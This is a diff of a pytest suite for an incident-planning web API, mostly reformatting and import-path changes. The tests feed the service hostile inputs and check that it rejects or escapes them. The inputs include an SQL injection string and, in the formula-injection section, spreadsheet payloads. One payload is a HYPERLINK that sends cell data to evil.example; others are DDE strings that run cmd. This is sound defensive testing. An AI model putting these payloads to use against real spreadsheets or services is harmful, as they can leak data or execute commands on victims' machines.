@@ -19,9 +19,6 @@ import pytest
 import yaml
 from fastapi.testclient import TestClient
 
-from service.app import create_app
-from service.auth import create_token
-from service.settings import Settings
 from tests.test_reliability_fixtures import (  # noqa: F401
     DEMO_TODAY,
     DEMO_WEEK,
@@ -32,6 +29,9 @@ from tests.test_reliability_fixtures import (  # noqa: F401
     demo_tokens,
     table_dump,
 )
+from tryggplan.service.app import create_app
+from tryggplan.service.settings import Settings
+from tryggplan.storage.tokens import create_token
 
 HEADER = "incident_id,occurred_at,place_id,category,source,weight\n"
 ROW = "h1,2025-11-20T21:10:00+01:00,stortorget,vandalism,reporter,1\n"
@@ -58,8 +58,11 @@ BAD_FILES = [
     ("next year", HEADER + ROW.replace("2025-11-20", "2027-11-20"), ["future"]),
     ("pre-1900", HEADER + ROW.replace("2025-11-20", "1850-11-20"), ["too_old"]),
     ("year 1200", HEADER + ROW.replace("2025-11-20", "1200-11-20"), ["bad_timestamp"]),
-    ("nonexistent local time", HEADER + ROW.replace("2025-11-20T21:10:00+01:00", "2025-03-30 02:30"),
-     ["nonexistent_time"]),
+    (
+        "nonexistent local time",
+        HEADER + ROW.replace("2025-11-20T21:10:00+01:00", "2025-03-30 02:30"),
+        ["nonexistent_time"],
+    ),
     ("SQL in place_id", HEADER + ROW.replace("stortorget", "x' OR '1'='1"), ["unknown_place"]),
     ("empty", b"", ["empty_file"]),
 ]
@@ -149,7 +152,7 @@ def test_200_mb_streamed_upload_is_cut_off_at_the_limit(demo_db: Path) -> None:
 
     async def body() -> AsyncIterator[bytes]:
         nonlocal sent
-        yield b"--xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.csv\"\r\n\r\n"
+        yield b'--xyz\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n\r\n'
         yield HEADER.encode()
         while sent < TOO_BIG:
             sent += chunk
@@ -192,14 +195,30 @@ def test_huge_json_batch_is_refused_by_size(
         ("truncated JSON", b'{"incidents": [{"incident_id": "a", "occ', 422),
         ("not JSON", b"\xff\xfe\x00garbage", 422),
         ("a string", b'"incidents"', 422),
-        ("NUL in a value", b'{"incidents": [{"incident_id": "a\\u0000b", "occurred_at": "2025-11-20T21:10:00+01:00",'
-         b' "place_id": "stortorget"}]}', 422),
-        ("control character", b'{"incidents": [{"incident_id": "a\\u0001b", "occurred_at": '
-         b'"2025-11-20T21:10:00+01:00", "place_id": "stortorget"}]}', 422),
-        ("far future", b'{"incidents": [{"incident_id": "f", "occurred_at": "2999-11-20T21:10:00+01:00",'
-         b' "place_id": "stortorget"}]}', 422),
-        ("pre-1900", b'{"incidents": [{"incident_id": "f", "occurred_at": "1899-12-31T23:59:00+01:00",'
-         b' "place_id": "stortorget"}]}', 422),
+        (
+            "NUL in a value",
+            b'{"incidents": [{"incident_id": "a\\u0000b", "occurred_at": "2025-11-20T21:10:00+01:00",'
+            b' "place_id": "stortorget"}]}',
+            422,
+        ),
+        (
+            "control character",
+            b'{"incidents": [{"incident_id": "a\\u0001b", "occurred_at": '
+            b'"2025-11-20T21:10:00+01:00", "place_id": "stortorget"}]}',
+            422,
+        ),
+        (
+            "far future",
+            b'{"incidents": [{"incident_id": "f", "occurred_at": "2999-11-20T21:10:00+01:00",'
+            b' "place_id": "stortorget"}]}',
+            422,
+        ),
+        (
+            "pre-1900",
+            b'{"incidents": [{"incident_id": "f", "occurred_at": "1899-12-31T23:59:00+01:00",'
+            b' "place_id": "stortorget"}]}',
+            422,
+        ),
     ],
 )
 def test_hostile_json_gets_4xx_and_changes_nothing(
@@ -229,8 +248,9 @@ def test_nul_in_urls_gets_422(demo_client: TestClient, demo_tokens: dict[str, st
     r = demo_client.post("/api/v1/places", json={"place_id": "p\x00"}, headers=h)
     assert (r.status_code, r.json()["detail"]) == (422, "the JSON body contains a NUL character: remove it")
     # an escaped backslash followed by u0000 is text, not NUL
-    r = demo_client.post("/api/v1/places", content=b'{"place_id": "p\\\\u0000"}',
-                         headers={**h, "content-type": "application/json"})
+    r = demo_client.post(
+        "/api/v1/places", content=b'{"place_id": "p\\\\u0000"}', headers={**h, "content-type": "application/json"}
+    )
     assert r.status_code == 201 and r.json()["place_id"] == "p\\u0000"
 
 
@@ -260,27 +280,36 @@ def test_sql_metacharacters_are_data_not_code(
     assert r.json() == {**place, "lat": None, "lon": None}
     r = demo_client.post(
         "/api/v1/incidents",
-        json={"incidents": [{"incident_id": text, "occurred_at": "2025-11-20T21:10:00+01:00",
-                             "place_id": text, "category": text, "source": text}]},
+        json={
+            "incidents": [
+                {
+                    "incident_id": text,
+                    "occurred_at": "2025-11-20T21:10:00+01:00",
+                    "place_id": text,
+                    "category": text,
+                    "source": text,
+                }
+            ]
+        },
         headers=h,
     )
     assert r.status_code == 201 and r.json()["added"] == 1, r.text
     # every string query parameter: exactly the one row, never "everything"
     got = demo_client.get("/api/v1/incidents", params={"place_id": text}, headers=h).json()
     # categories are normalised to lower case; ids and sources are kept verbatim
-    assert [(i["incident_id"], i["category"], i["source"]) for i in got["incidents"]] == [
-        (text, text.lower(), text)
-    ]
+    assert [(i["incident_id"], i["category"], i["source"]) for i in got["incidents"]] == [(text, text.lower(), text)]
     got = demo_client.get("/api/v1/incidents", params={"municipality": text}, headers=h).json()
     assert got["total"] == 1
-    assert [p["place_id"] for p in demo_client.get(
-        "/api/v1/places", params={"municipality": text}, headers=h).json()] == [text]
+    assert [
+        p["place_id"] for p in demo_client.get("/api/v1/places", params={"municipality": text}, headers=h).json()
+    ] == [text]
     agg = demo_client.get("/api/v1/aggregates/incidents", params={"municipality": text}, headers=h).json()
     assert [(row["place_id"], row["count"]) for row in agg["rows"]] == [(text, 1)]
-    assert demo_client.get("/api/v1/places/" + httpx.URL("/" + text).raw_path.decode()[1:],
-                           headers=h).status_code in (200, 404)
-    r = demo_client.get("/api/v1/forecasts/latest/grid", params={"municipality": text, "place_id": text},
-                        headers=h)
+    assert demo_client.get("/api/v1/places/" + httpx.URL("/" + text).raw_path.decode()[1:], headers=h).status_code in (
+        200,
+        404,
+    )
+    r = demo_client.get("/api/v1/forecasts/latest/grid", params={"municipality": text, "place_id": text}, headers=h)
     assert r.status_code == 200 and r.json()["rows"] == []  # the forecast predates the place
     for url in ("/api/v1/forecasts/latest/grid", "/api/v1/plans/current"):
         assert demo_client.get(url, params={"start": text}, headers=h).status_code in (200, 422)
@@ -378,7 +407,7 @@ def test_bad_query_times_get_422(demo_client: TestClient, demo_tokens: dict[str,
 
 # --------------------------------------------------------------------------- formula injection
 
-EVIL_PLACE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"klicka\")"
+EVIL_PLACE = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
 EVIL_AREA = "+cmd|' /C calc'!A0"
 EVIL_ASSOC = "@SUM(1+1)*cmd|' /C calc'!A0"
 EVIL_NAME = "-2+3+cmd|' /C calc'!A0"
@@ -394,10 +423,8 @@ def _assert_no_formula(text: str, sep: str) -> list[str]:
     return cells
 
 
-def test_formula_injection_is_escaped_in_every_csv_export(
-    demo_client: TestClient, demo_tokens: dict[str, str]
-) -> None:
-    from allocation import demo_resources
+def test_formula_injection_is_escaped_in_every_csv_export(demo_client: TestClient, demo_tokens: dict[str, str]) -> None:
+    from tryggplan.allocation import demo_resources
 
     h = auth(demo_tokens["admin"])
     r = demo_client.post(
